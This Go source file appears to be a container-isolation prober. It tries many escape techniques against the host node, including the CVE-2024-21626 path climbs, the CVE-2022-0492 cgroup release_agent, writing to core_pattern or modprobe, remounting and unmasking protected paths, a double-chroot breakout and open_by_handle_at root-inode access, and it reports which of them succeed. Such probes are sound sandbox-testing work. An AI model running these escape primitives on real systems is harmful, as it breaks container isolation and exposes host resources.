package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// attempt tries to access the node's resources and returns what it reached, or
// nothing. It does not modify what it reached.
type attempt struct {
	name string
	do   func(node string) string
}

func attempts() []attempt {
	return append([]attempt{
		{"root of process 1", func(node string) string { return exists("/proc/1/root" + node) }},
		{"CVE-2024-21626 working directory", func(node string) string { return exists("/proc/self/cwd" + climb + node) }},
		{"CVE-2024-21626 descriptors", inherited},
		{"kernel settings", func(string) string { return writable(settings("/proc/sys", "/proc", "/sys")) }},
		{"kernel settings remounted", remounted},
		{"kernel settings in a new procfs", freshProc},
		{"kernel settings in a new sysfs", freshSys},
		{"CVE-2022-0492 release_agent in a new mount", releaseAgents},
		{"masks removed", unmasked},
		{"chroot twice", chrootTwice},
		{"file handles of a mounted file's disk", handles},
		{"device nodes", func(string) string { return made() }},
		{"raw disks", func(string) string { return disks() }},
		{"keyrings", keyrings},
	}, calls()...)
}

func try() {
	for _, a := range attempts() {
		if got := a.do(os.Getenv("NODE")); got != "" {
			fmt.Printf("ESCAPED %s: %s\n", a.name, got)
		} else {
			fmt.Printf("TRIED %s\n", a.name)
		}
	}
	fmt.Println("DONE")
}

const climb = "/../../../../../../../../../../../.."

func exists(path string) string {
	if _, err := os.Stat(path); err != nil {
		return ""
	}
	return path
}

// inherited goes through descriptors that were open before this program.
func inherited(node string) string {
	for fd := range 256 {
		for _, up := range []string{"", climb} {
			if got := exists(fmt.Sprintf("/proc/self/fd/%d%s%s", fd, up, node)); got != "" {
				return got
			}
		}
	}
	return ""
}

// settings are files through which root configures the kernel, by the
// directories of each kind.
func settings(procSys, proc, sys string) []string {
	var all []string
	for _, name := range []string{
		"kernel/core_pattern", "kernel/modprobe", "kernel/sysrq", "kernel/panic", "kernel/randomize_va_space",
		"vm/overcommit_memory", "vm/drop_caches", "fs/suid_dumpable", "fs/binfmt_misc/register", "kernel/poweroff_cmd",
	} {
		all = append(all, filepath.Join(procSys, name))
	}

	all = append(all, filepath.Join(proc, "sysrq-trigger"), filepath.Join(proc, "irq/default_smp_affinity"))
	for _, name := range []string{
		"kernel/uevent_helper", "power/state", "kernel/mm/transparent_hugepage/enabled", "kernel/profiling",
		"fs/cgroup/devices/devices.allow", "fs/cgroup/memory/memory.limit_in_bytes", "fs/cgroup/cgroup.procs", "fs/cgroup/memory.max",
	} {
		all = append(all, filepath.Join(sys, name))
	}

	return all
}

// writable are the files that can be opened for writing.
func writable(paths []string) string {
	var got []string
	for _, path := range paths {
		if fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0); err == nil {
			unix.Close(fd)
			got = append(got, path)
		}
	}
	return strings.Join(got, " ")
}

// within mounts a file system at its own directory while f inspects it.
func within(fstype, data string, f func(dir string) string) string {
	dir, err := os.MkdirTemp("/dev/shm", "try-")
	if err != nil {
		return ""
	}
	defer os.Remove(dir)
	if unix.Mount("none", dir, fstype, 0, data) != nil {
		return ""
	}
	defer func() { _ = unix.Unmount(dir, unix.MNT_DETACH) }()
	return f(dir)
}

func freshProc(string) string {
	return within("proc", "", func(dir string) string { return writable(settings(dir+"/sys", dir, "/nothing")) })
}

func freshSys(string) string {
	return within("sysfs", "", func(dir string) string { return writable(settings("/nothing", "/nothing", dir)) })
}

// remounted makes read-only mounts writable again.
func remounted(string) string {
	for _, dir := range []string{"/proc/sys", "/sys", "/proc/sysrq-trigger", "/sys/fs/cgroup"} {
		_ = unix.Mount("", dir, "", unix.MS_REMOUNT|unix.MS_BIND, "")
		_ = unix.Unmount(dir, unix.MNT_DETACH)
	}
	return writable(settings("/proc/sys", "/proc", "/sys"))
}

// releaseAgents looks for the file in a new mount of every hierarchy.
func releaseAgents(string) string {
	groups, _ := os.ReadFile("/proc/self/cgroup")
	var got []string
	for line := range strings.Lines(string(groups)) {
		f := strings.SplitN(line, ":", 3)
		if len(f) < 3 || f[1] == "" {
			continue
		}

		options := f[1]
		if strings.HasPrefix(options, "name=") {
			options = "none," + options
		}
		got = append(got, within("cgroup", options, func(dir string) string {
			return writable([]string{dir + "/release_agent"})
		}))
	}

	return strings.TrimSpace(strings.Join(got, " "))
}

// unmasked looks for masked paths that are not empty.
func unmasked(string) string {
	for _, path := range []string{"/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware"} {
		if unix.Unmount(path, unix.MNT_DETACH) != nil {
			continue
		}
		if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			unix.Close(fd)
			return path
		}
	}
	return ""
}

// chrootTwice escapes from a root through a directory outside of a nested one.
// It returns.
func chrootTwice(node string) string {
	top, err := os.Open("/")
	if err != nil {
		return ""
	}
	defer top.Close()
	defer func() { _ = errors.Join(top.Chdir(), unix.Chroot("."), os.Chdir("/")) }()
	if os.MkdirAll("/dev/shm/jail", 0o755) != nil || unix.Chroot("/dev/shm/jail") != nil || top.Chdir() != nil {
		return ""
	}
	return exists("." + climb + node)
}

// handles opens the root of a file system of which only a file is mounted, by
// the well-known inode number of roots.
func handles(node string) string {
	for _, mounted := range []string{"/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/dev/termination-log", "/"} {
		fd, err := unix.Open(mounted, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}

		// ext4 and XFS have the inode first and its generation second.
		for _, top := range [][]byte{{2, 0, 0, 0, 0, 0, 0, 0}, {128, 0, 0, 0, 0, 0, 0, 0}, {128, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}} {
			for _, kind := range []int32{1, 0x81} {
				got, err := unix.OpenByHandleAt(fd, unix.NewFileHandle(kind, top), unix.O_RDONLY|unix.O_CLOEXEC)
				if err != nil {
					continue
				}

				found := exists(fmt.Sprintf("/proc/self/fd/%d%s", got, node))
				unix.Close(got)
				if found != "" {
					unix.Close(fd)
					return "the disk of " + mounted
				}
			}
		}
		unix.Close(fd)
	}
	return ""
}

// made and disks are found by the watcher, too.
func made() string  { return onlyOf("device", (*watcher).devices) }
func disks() string { return onlyOf("disk", (*watcher).devices) }

func onlyOf(kind string, look func(*watcher)) string {
	w := newWatcher()
	look(w)
	var got []string
	for line := range w.found {
		if strings.HasPrefix(line, "FOUND "+kind+" ") {
			got = append(got, line)
		}
	}
	return strings.Join(got, ", ")
}

// keyrings looks for a key of the node's root, whose user this may be.
func keyrings(string) string {
	for _, ring := range []int{unix.KEY_SPEC_USER_KEYRING, unix.KEY_SPEC_USER_SESSION_KEYRING, unix.KEY_SPEC_SESSION_KEYRING} {
		if _, err := unix.KeyctlSearch(ring, "user", "hostile-canary", 0); err == nil {
			return "the node's key"
		}
	}
	if _, err := unix.AddKey("user", "hostile-own", []byte("x"), unix.KEY_SPEC_USER_KEYRING); err == nil {
		return "a key for all processes of the same user"
	}
	return ""
}
